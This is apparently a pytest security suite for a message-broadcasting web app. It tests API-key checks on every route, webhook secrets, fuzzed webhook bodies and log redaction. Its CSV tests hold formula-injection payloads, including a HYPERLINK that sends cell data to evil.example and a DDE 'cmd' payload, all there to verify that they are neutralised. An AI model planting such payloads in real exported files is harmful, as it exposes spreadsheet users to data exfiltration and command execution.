"""Security suite: keys on every route, the webhook's secret and input, CSV injection, logs.

- Every route the app serves (walked from the app itself, so a route hidden from the OpenAPI
  schema cannot slip by) refuses a request without a key, with a wrong or random key, and
  with a forged session cookie; an operator page sends such a request to the sign-in page.
- The webhook refuses any secret but the configured one: 404, and nothing changes.
- Webhook bodies fuzzed with hypothesis (random bytes, random JSON, JSON shaped like Replai's
  with random values) against the real app and a real Redis: never a 5xx, and a body refused
  with 422 leaves every key of the store exactly as it was.
- The CSV reports (HTTP `report.csv` and the CLI's) neutralise every cell a spreadsheet
  would run as a formula, whatever contacts, replies and Replai's errors hold.
- A full campaign with real processes (web app under uvicorn as the Procfile runs it, Celery
  workers, the sandbox posting callbacks): none of their output holds the Replai token, the
  API key, the webhook secret or a full phone number of the campaign.
"""

import csv
import io
import json
import os
import secrets
import signal
import subprocess
import sys
import time
from urllib.parse import quote

import httpx
import pytest
import redis as redis_lib
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from broadcaster.campaigns import RecipientStatus
from broadcaster.contacts import Contact
from broadcaster.reports import write_csv
from tests import factories
from tests.conftest import BROKER_DB, STORE_DB, WORKER_STALE_AFTER, free_port, redis_url, wait_http
from tests.web.conftest import (
    API_KEY,
    AUTH,
    WEBHOOK_SECRET,
    Recorder,
    TestClient,
    build_app,
    csv_bytes,
)

S = RecipientStatus
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FUZZ = settings(
    max_examples=120,
    deadline=None,
    database=None,
    derandomize=True,  # the same examples every run: `make test` never fails by chance
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def store(redis):

    return factories.store(redis, stale_after=WORKER_STALE_AFTER)


@pytest.fixture
def anon(redis):
    with TestClient(build_app(Recorder())) as client:
        yield client


#: The metrics counters: a background thread adds earlier requests' counts to them at any time.
METRICS_KEY = b"bc:metrics"


def snapshot(client: redis_lib.Redis) -> dict[bytes, bytes | None]:
    """Every key of the store with its serialised value (DUMP), to compare before/after."""
    return {key: client.dump(key) for key in sorted(client.keys("*")) if key != METRICS_KEY}


# --- every route needs a key -----------------------------------------------------------------

#: Served to anyone: docs, health, the sign-in page and what it needs, plain redirects.
PUBLIC = {
    ("GET", "/openapi.json"), ("GET", "/docs"), ("GET", "/docs/oauth2-redirect"),
    ("GET", "/redoc"), ("GET", "/healthz"), ("GET", "/"), ("GET", "/ui"), ("GET", "/ui/"),
    ("GET", "/ui/login"), ("POST", "/ui/login"), ("POST", "/ui/logout"),
}  # fmt: skip
#: Protected by the secret in its path (tested below).
WEBHOOK = ("POST", "/webhooks/replai/{secret}")


def served_routes() -> list[tuple[str, str]]:
    """(method, path) of every route of the app, included routers and hidden ones too."""

    def walk(routes):
        for route in routes:
            if hasattr(route, "original_router"):  # FastAPI's included router
                yield from walk(route.original_router.routes)
            elif hasattr(route, "routes") and not hasattr(route, "methods"):  # a mount
                yield from walk(route.routes)
            else:
                yield route

    found = {
        (method, route.path)
        for route in walk(build_app().routes)
        for method in (getattr(route, "methods", None) or {"GET"})
        if method != "HEAD"
    }
    return sorted(found)


ROUTES = served_routes()
PROTECTED = [r for r in ROUTES if r not in PUBLIC and r != WEBHOOK]


def concrete(path: str) -> str:
    return (
        path.replace("{campaign_id}", "c0123456789a")
        .replace("{phone}", "6281234567890")
        .replace("{name}", "campaign.js")
    )


def test_the_route_walk_finds_every_api_route():
    schema_paths = build_app().openapi()["paths"]
    in_schema = {(m.upper(), p) for p, ops in schema_paths.items() for m in ops}
    assert in_schema <= set(ROUTES)
    assert len(PROTECTED) >= 20


@pytest.mark.parametrize(("method", "path"), PROTECTED)
@pytest.mark.parametrize(
    "credentials",
    [
        {},
        {"headers": {"X-API-Key": "wrong"}},
        {"headers": {"Authorization": "Bearer " + API_KEY + "x"}},
        {"headers": {"X-API-Key": API_KEY[:-1]}},
        {"cookies": {"bc_session": "9999999999.00"}},
        {"cookies": {"bc_session": f"9999999999.{'0' * 64}"}},
    ],
    ids=["none", "wrong", "bearer-suffix", "prefix", "cookie-short", "cookie-forged"],
)
def test_every_route_refuses_a_request_without_a_valid_key(anon, redis, method, path, credentials):
    before = snapshot(redis)
    headers = credentials.get("headers", {})
    if method != "GET":
        headers = headers | {"X-Requested-With": "broadcaster"}  # past the page's CSRF check
    anon.cookies.clear()
    for name, value in credentials.get("cookies", {}).items():
        anon.cookies.set(name, value)
    response = anon.request(
        method, concrete(path), headers=headers, json={}, follow_redirects=False
    )
    if path.startswith("/ui/") and method == "GET":
        assert response.status_code == 303, (method, path, response.status_code)
        assert response.headers["location"].startswith("/ui/login")
    else:
        assert response.status_code == 401, (method, path, response.status_code, response.text)
    assert snapshot(redis) == before


@FUZZ
@given(
    key=st.text(
        st.characters(min_codepoint=0x21, max_codepoint=0xFF, exclude_characters="\x7f"),
        min_size=1,
        max_size=80,
    )
)
@example(key=API_KEY.upper())
@example(key=API_KEY + "\u00a0")
def test_no_random_key_opens_the_api(anon, key):
    if key.strip(" \t") in (API_KEY, "second-key"):
        return  # HTTP drops the whitespace around a header value
    headers = {"X-API-Key": key.encode("latin-1")}
    assert anon.get("/campaigns", headers=headers).status_code == 401
    bearer = {"Authorization": b"Bearer " + key.encode("latin-1")}
    assert anon.get("/suppression", headers=bearer).status_code == 401


def test_the_right_key_opens_the_api(anon):
    assert anon.get("/campaigns", headers=AUTH).status_code == 200


def body_routes() -> list[tuple[str, str, str]]:
    """(method, path, media type) of every protected operation that takes a request body."""
    paths = build_app().openapi()["paths"]
    return sorted(
        (method.upper(), path, media)
        for path, operations in paths.items()
        if not path.startswith("/webhooks/")
        for method, operation in operations.items()
        for media in (operation.get("requestBody") or {}).get("content", {})
    )


BODY_ROUTES = body_routes()
JSON_ROUTES = [(m, p) for m, p, media in BODY_ROUTES if media == "application/json"]


def test_body_routes_are_found():
    assert ("POST", "/suppression") in JSON_ROUTES and len(BODY_ROUTES) >= 5


@pytest.mark.parametrize(("method", "path"), JSON_ROUTES)
@pytest.mark.parametrize("body", [b"{not json", b"\x80"], ids=["not-json", "not-utf8"])
def test_the_key_is_checked_before_the_body_is_read(anon, method, path, body):
    """Without a key the answer is 401, whatever the body: an anonymous client learns nothing
    of the route's validation and cannot make the server read and parse a body."""
    response = anon.request(
        method, concrete(path), content=body, headers={"content-type": "application/json"}
    )
    assert response.status_code == 401, (response.status_code, response.text[:200])


@pytest.mark.parametrize(("method", "path", "media"), BODY_ROUTES)
def test_every_request_body_is_limited(redis, method, path, media):
    """README: 413 for a body over BROADCASTER_MAX_UPLOAD_BYTES, on every route that reads
    one (POST /campaigns does; a JSON body elsewhere was read whole, in memory, unbounded)."""
    with TestClient(build_app(Recorder(), max_upload_bytes=1000), headers=AUTH) as client:
        if media == "application/json":
            response = client.request(
                method, concrete(path), content=b"{}" + b" " * 5000,
                headers={"content-type": "application/json"},
            )  # fmt: skip
        else:
            response = client.request(
                method, concrete(path), data={"sender": "w"},
                files={"file": ("c.csv", b"phone\n" + b"081234567890\n" * 500, "text/csv")},
            )  # fmt: skip
    assert response.status_code == 413, (response.status_code, response.text[:200])


# --- the webhook's secret --------------------------------------------------------------------


@pytest.fixture
def sent(store):
    """A running campaign of 3, all sent, with message ids wamid.0..2 and phones indexed."""
    c = store.create(factories.campaign(), factories.contacts(3), window=3)
    store.start(c.id)
    for i in range(3):
        factories.settle(store, c.id, i, S.SENT, message_id=f"wamid.{i}")
    return c.id


def meta_status(mid: str, status: str) -> bytes:
    value = {"statuses": [{"id": mid, "status": status, "timestamp": "1"}]}
    return json.dumps({"entry": [{"changes": [{"field": "messages", "value": value}]}]}).encode()


def post_hook(client, body: bytes, secret: str = WEBHOOK_SECRET):
    return client.post(
        f"/webhooks/replai/{secret}", content=body, headers={"content-type": "application/json"}
    )


@FUZZ
@given(secret=st.text(min_size=1, max_size=40).filter(lambda s: s != WEBHOOK_SECRET))
@example(secret=WEBHOOK_SECRET.upper())
@example(secret=WEBHOOK_SECRET + "%00")
@example(secret=WEBHOOK_SECRET[:-1])
@example(secret=" " + WEBHOOK_SECRET)
def test_a_wrong_webhook_secret_is_refused_and_changes_nothing(anon, store, sent, secret):
    before = snapshot(store.redis)
    response = post_hook(anon, meta_status("wamid.0", "read"), secret=quote(secret, safe=""))
    assert response.status_code in (404, 405), response.text
    assert snapshot(store.redis) == before


def test_the_right_secret_is_let_through(anon, store, sent):
    assert post_hook(anon, meta_status("wamid.0", "read")).status_code == 200
    assert store.counts(sent)["read"] == 1


# --- webhook bodies, fuzzed ------------------------------------------------------------------

_LEAF = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.sampled_from(
        [
            "wamid.0", "wamid.1", "wamid.9", "sent", "delivered", "read", "failed", "STOP",
            "stop", "", "text", "interactive", factories.phone(0), factories.phone(1),
            "0" + factories.phone(2)[2:], "1e400", "2024-01-01T00:00:00Z", "nan", "-1",
            "\ud800", "x" * 600,
        ]
    )
)  # fmt: skip
_KEYS = st.sampled_from(
    [
        "entry", "changes", "value", "statuses", "messages", "id", "status", "message_id",
        "from", "message", "phone", "recipient_id", "to", "timestamp", "errors", "error",
        "error_code", "error_title", "code", "title", "type", "text", "body", "contacts",
        "wa_id", "profile", "name", "metadata", "phone_number_id", "device_key",
        "interactive", "button_reply", "list_reply", "field",
    ]
)  # fmt: skip
JSONISH = st.recursive(
    _LEAF,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(_KEYS | st.text(max_size=8), inner, max_size=5)
    ),
    max_leaves=25,
)
SHAPED = st.one_of(
    st.builds(
        lambda statuses: {"entry": [{"changes": [{"value": {"statuses": statuses}}]}]},
        st.lists(st.dictionaries(_KEYS, JSONISH, max_size=6), max_size=3),
    ),
    st.builds(
        lambda messages, contacts: {
            "entry": [{"changes": [{"value": {"messages": messages, "contacts": contacts}}]}]
        },
        st.lists(st.dictionaries(_KEYS, JSONISH, max_size=6), max_size=3),
        JSONISH,
    ),
    st.dictionaries(_KEYS, JSONISH, max_size=8),
    st.lists(st.dictionaries(_KEYS, JSONISH, max_size=5), max_size=3),
)


def check_webhook(client, store, body: bytes) -> None:
    before = snapshot(store.redis)
    response = post_hook(client, body)
    assert response.status_code < 500, (body[:200], response.status_code, response.text)
    assert response.status_code in (200, 422), (body[:200], response.status_code)
    if response.status_code == 422:
        assert response.json()["detail"].startswith("not a Replai webhook")
        after = snapshot(store.redis)
        changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
        assert not changed, f"a refused body changed {changed}: {body[:200]!r}"
    else:
        assert set(response.json()) >= {"ok", "duplicate", "statuses", "replies"}


@FUZZ
@given(body=st.binary(max_size=300))
@example(body=b"")
@example(body=b"\xff\xfe{")
@example(body=b'{"a": 1e99999}')
def test_webhook_random_bytes(anon, store, sent, body):
    check_webhook(anon, store, body)


@FUZZ
@given(payload=JSONISH)
def test_webhook_random_json(anon, store, sent, payload):
    check_webhook(anon, store, json.dumps(payload).encode())


@FUZZ
@given(payload=SHAPED)
def test_webhook_json_shaped_like_replai(anon, store, sent, payload):
    check_webhook(anon, store, json.dumps(payload).encode())


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"message":' * 5_000 + b"1" + b"}" * 5_000,
        b'{"entry": ' + b"[" * 3_000 + b"]" * 3_000 + b"}",
    ],
    ids=["arrays-100k-deep", "objects-5k-deep", "entry-3k-deep"],
)
def test_deeply_nested_json_is_refused_not_a_500(anon, store, sent, body):
    check_webhook(anon, store, body)


@pytest.mark.parametrize(
    "payload",
    [
        {"message_id": "\ud800", "status": "read"},
        {"entry": [{"changes": [{"value": {"statuses": [{"id": "x\udfff", "status": "read"}]}}]}]},
        {"from": factories.phone(1), "message": "Halo \ud83d"},
    ],
    ids=["flat-status-id", "meta-status-id", "reply-text"],
)
def test_a_lone_surrogate_is_refused_without_any_change(anon, store, sent, payload):
    """JSON may escape half a UTF-16 pair (`"\\ud800"`); Redis keys and values cannot hold it.

    Either the body is applied without that value (200), or it is refused (422) before it
    changes anything, the de-duplication record included.
    """
    check_webhook(anon, store, json.dumps(payload).encode())


# --- CSV reports: formula cells neutralised --------------------------------------------------

FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+62 812", "-2+3",
    "@SUM(A1:A9)", "\t=1", "\r=1", "=cmd|' /C calc'!A0",
]  # fmt: skip


def assert_no_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula cell {cell!r} in {row}"


def test_report_csv_of_an_uploaded_campaign_has_no_formula_cell(redis, store):
    """Names, a header, a reply and a failure reason that are formulas, all neutralised."""
    data = io.StringIO()
    writer = csv.writer(data)
    writer.writerow(["phone", "name", "=evil()"])
    writer.writerows([f"0{factories.phone(i)[2:]}", f, "@x"] for i, f in enumerate(FORMULAS))
    with TestClient(build_app(Recorder()), headers=AUTH) as client:
        response = client.post(
            "/campaigns",
            data={"sender": "waba-1", "text": "Halo {name} {=evil()}"},
            files={"file": ("c.csv", data.getvalue().encode(), "text/csv")},
        )
        assert response.status_code == 201, response.text
        cid = response.json()["id"]  # started: its recipients are queued for the workers
        for i in range(2):
            factories.settle(store, cid, i, S.SENT, message_id=f"wamid.f{i}")
        reply = {"from": factories.phone(0), "message": '=HYPERLINK("http://evil.example")'}
        assert post_hook(client, json.dumps(reply).encode()).json()["replies"] == 1
        failed = {"message_id": "wamid.f1", "status": "failed", "error_title": "=1+2"}
        assert post_hook(client, json.dumps(failed).encode()).json()["statuses"] == 1
        report = client.get(f"/campaigns/{cid}/report.csv")
    assert report.status_code == 200
    assert_no_formula(report.text)
    parsed = list(csv.reader(io.StringIO(report.text)))
    assert parsed[0][-1] == "'=evil()"
    assert parsed[1][7] == '\'=HYPERLINK("http://evil.example")'
    assert [r[-2] for r in parsed[1:]] == ["'" + f.strip() for f in FORMULAS]  # import strips


_CELL = st.text(max_size=12) | st.sampled_from(FORMULAS).map(lambda f: f + "x")


@settings(FUZZ, max_examples=40)
@given(names=st.lists(_CELL, min_size=1, max_size=6), other=_CELL, reply=_CELL, error=_CELL)
def test_reports_never_hold_a_formula_cell(redis, store, names, other, reply, error):
    """Whatever the cells hold, neither CSV report has a cell a spreadsheet would run."""
    redis.flushdb()
    campaign = factories.campaign(text="Halo {name} {" + (other.strip("{}\n") or "o") + "}")
    column = campaign.variables[-1]
    contacts = [
        Contact(i + 2, factories.phone(i), {"name": n, column: other}) for i, n in enumerate(names)
    ]
    c = store.create(campaign, contacts, window=len(contacts))
    store.start(c.id)
    factories.settle(store, c.id, 0, S.FAILED, error=error or "e")
    store.redis.hset(store.keys.replies(c.id), "0", reply)
    with TestClient(build_app(Recorder()), headers=AUTH) as client:
        http_report = client.get(f"/campaigns/{c.id}/report.csv").text
    assert_no_formula(http_report)
    out = io.StringIO()
    write_csv(store.iter_rows(c.id), store.get(c.id).variables, out)
    assert_no_formula(out.getvalue())


# --- logs of a full campaign -----------------------------------------------------------------

TOKEN = "tok-" + secrets.token_hex(12)
KEY = "key-" + secrets.token_hex(12)
HOOK = "hook-" + secrets.token_hex(12)
#: scripted outcomes (see the sandbox table in the README): failures, retries, callbacks
SUFFIXES = [None, None, None, 1, 2, 3, 6, 7, 8, 9, 10, 13, 14]


def log_phones() -> list[str]:
    return [
        f"62813{77000 + i:05d}{s:04d}" if s else f"62813{77000 + i:05d}{5000 + i:04d}"
        for i, s in enumerate(SUFFIXES)
    ]


def _stop(proc: subprocess.Popen[bytes]) -> None:
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(5)


@pytest.fixture(scope="module")
def campaign_logs(tmp_path_factory) -> dict[str, str]:
    """Run one campaign through the real processes; return each process's whole output."""
    store_redis = redis_lib.Redis.from_url(redis_url(STORE_DB))
    try:
        store_redis.ping()
    except redis_lib.ConnectionError:
        pytest.skip("Redis is not reachable; run the tests with `make test`")
    broker_redis = redis_lib.Redis.from_url(redis_url(BROKER_DB))
    store_redis.flushdb()
    broker_redis.flushdb()
    logs = tmp_path_factory.mktemp("logs")
    web_port, sandbox_port = free_port(), free_port()
    web_url, sandbox_url = f"http://127.0.0.1:{web_port}", f"http://127.0.0.1:{sandbox_port}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("BROADCASTER_")} | {
        "BROADCASTER_REDIS_URL": redis_url(STORE_DB),
        "BROADCASTER_BROKER_URL": redis_url(BROKER_DB),
        "BROADCASTER_REPLAI_BASE_URL": sandbox_url,
        "BROADCASTER_REPLAI_TOKEN": TOKEN,
        "BROADCASTER_API_KEYS": KEY,
        "BROADCASTER_WEBHOOK_SECRET": HOOK,
        "BROADCASTER_REPLAI_TIMEOUT": "3",
        "BROADCASTER_BACKOFF_BASE": "0.5",
        "BROADCASTER_PAIR_INTERVAL": "1",
        # the sandbox's throttle is off: the account's is raised to match
        "BROADCASTER_RATE_WABA_PER_MINUTE": os.environ["BROADCASTER_RATE_WABA_PER_MINUTE"],
        "BROADCASTER_SENDER_RATE": os.environ["BROADCASTER_SENDER_RATE"],
    }
    commands = {
        # as docker-compose runs them: the sandbox is given the webhook URL on its command line
        "sandbox": [
            sys.executable, "-m", "broadcaster.sandbox", "--port", str(sandbox_port),
            "--token", TOKEN, "--rate-limit", "0", "--callback-delay-ms", "100",
            "--webhook-url", f"{web_url}/webhooks/replai/{HOOK}",
        ],
        # the Procfile's web line (uvicorn's default log level, access log on)
        "web": [
            sys.executable, "-m", "uvicorn", "broadcaster.web.app:create_app", "--factory",
            "--host", "127.0.0.1", "--port", str(web_port),
        ],
        # the Procfile's worker line, at DEBUG: what an operator turns on to troubleshoot
        "worker": [
            sys.executable, "-m", "celery", "-A", "workers.app", "worker", "--pool", "threads",
            "--concurrency", "4", "-E", "--loglevel=DEBUG", "-n", "logs@%h",
            "--without-gossip", "--without-mingle",
        ],
    }  # fmt: skip
    procs: dict[str, subprocess.Popen[bytes]] = {}
    try:
        for name, cmd in commands.items():
            with open(logs / f"{name}.log", "wb") as out:
                procs[name] = subprocess.Popen(
                    cmd, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True
                )
        wait_http(sandbox_url + "/_sandbox/config", proc=procs["sandbox"])
        wait_http(web_url + "/healthz", proc=procs["web"])
        with httpx.Client(base_url=web_url, headers={"X-API-Key": KEY}, timeout=30) as http:
            deadline = time.monotonic() + 30
            while http.get("/healthz").status_code != 200:
                assert time.monotonic() < deadline, "the worker did not start"
                time.sleep(0.2)
            phones = log_phones()
            rows = [[f"0{p[2:]}", f"Name{i}"] for i, p in enumerate(phones)] + [["12", "Bad"]]
            created = http.post(
                "/campaigns",
                data={"sender": "waba-1", "text": "Halo {name}", "rate_per_minute": "6000"},
                files={"file": ("contacts.csv", csv_bytes(rows), "text/csv")},
            )
            assert created.status_code == 201, created.text
            cid = created.json()["id"]

            def finished() -> bool:
                c = http.get(f"/campaigns/{cid}").json()
                return c["state"] == "completed" and c["opted_out"] == 1 and c["replies"] >= 2

            deadline = time.monotonic() + 60
            while not finished():
                assert time.monotonic() < deadline, http.get(f"/campaigns/{cid}").text
                time.sleep(0.3)
            assert http.get(f"/campaigns/{cid}/report.csv").status_code == 200
            assert http.get(f"/campaigns/{cid}/recipients").status_code == 200
            assert http.get("/campaigns").status_code == 200
            assert http.post("/webhooks/replai/wrong", content=b"{}").status_code == 404
            received = httpx.get(sandbox_url + "/_sandbox/sends?summary=1").json()["count"]
    finally:
        for proc in procs.values():
            _stop(proc)
        store_redis.flushdb()
        broker_redis.flushdb()
    output = {name: (logs / f"{name}.log").read_text(errors="replace") for name in commands}
    output["_received"] = str(received)
    return output


SECRETS = {
    "Replai token": lambda: [TOKEN],
    "API key": lambda: [KEY],
    "webhook secret": lambda: [HOOK],
    "full phone number": lambda: [p[2:] for p in log_phones()],  # in any form: +62, 0, 62
}


@pytest.mark.slow
@pytest.mark.timeout(180)
def test_the_logged_campaign_really_ran(campaign_logs):
    assert int(campaign_logs["_received"]) >= 10
    assert "Replai sandbox on" in campaign_logs["sandbox"]
    assert "outcome unknown" in campaign_logs["worker"]  # the 0008 send timed out
    assert "+62********0008" in campaign_logs["worker"]  # ... and is logged masked
    assert "POST /campaigns" in campaign_logs["web"]


@pytest.mark.slow
@pytest.mark.timeout(180)
@pytest.mark.parametrize("what", sorted(SECRETS))
@pytest.mark.parametrize("source", ["worker", "web", "sandbox"])
def test_logs_hold_no_secret_and_no_full_phone(campaign_logs, source, what):
    text = campaign_logs[source]
    found = [
        line.strip()[:160]
        for needle in SECRETS[what]()
        for line in text.splitlines()
        if needle in line
    ]
    assert not found, f"{what} in the {source}'s output ({len(found)} lines): {found[:3]}"


def test_log_phones_are_valid_and_masked_in_logs():
    from broadcaster.phones import mask_phone, normalize_phone

    for p in log_phones():
        assert normalize_phone(p) == p
        assert p[2:] not in mask_phone(p)
